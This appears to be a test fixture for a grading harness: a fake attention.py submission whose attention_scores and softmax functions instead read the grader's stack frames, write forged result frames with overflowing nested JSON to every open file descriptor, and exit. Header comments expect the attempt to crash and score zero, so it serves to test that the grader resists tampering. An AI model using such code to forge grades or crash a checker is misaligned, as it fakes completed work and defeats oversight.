# attempts: JSON nested just deeply enough to be parsed and then to overflow whoever prints it
# expect: attention_scores = crashed
# expect: softmax = crashed
# expect: points = 0
import json
import os
import struct
import sys

EMPTY = struct.pack("<Q", 2) + b"{}"


def frame(kind, meta, blob=EMPTY):
    text = meta if isinstance(meta, bytes) else json.dumps(meta).encode()
    payload = struct.pack("<I", len(text)) + text + blob
    return kind + struct.pack("<I", len(payload)) + payload


def write_everywhere(data):
    for fd in range(3, 64):
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass


IMPORTED = frame(b"M", {"file": "attention.py", "untouched": []})


def look(name):
    """A variable of the worker's function that answers the job."""
    frame = sys._getframe(1)
    while frame.f_code.co_name != "carry_out" or name not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals[name]


KEYS = [f"{exercise['exercise']}/{case['id']}" for exercise, _ in look("exercises") for case in exercise["cases"]]


def keys_of(exercise):
    return [key for key in KEYS if key.startswith(f"{exercise}/")]


def forge():
    key = look("key")
    depth = 860 + 6 * KEYS.index(key)
    nest = b"[" * depth + b"]" * depth
    write_everywhere(frame(b"O", b'{"key": "%s", "outcome": %s}' % (key.encode(), nest)))
    os._exit(0)


def attention_scores(Q, K):
    forge()


def softmax(x, dim=-1):
    forge()
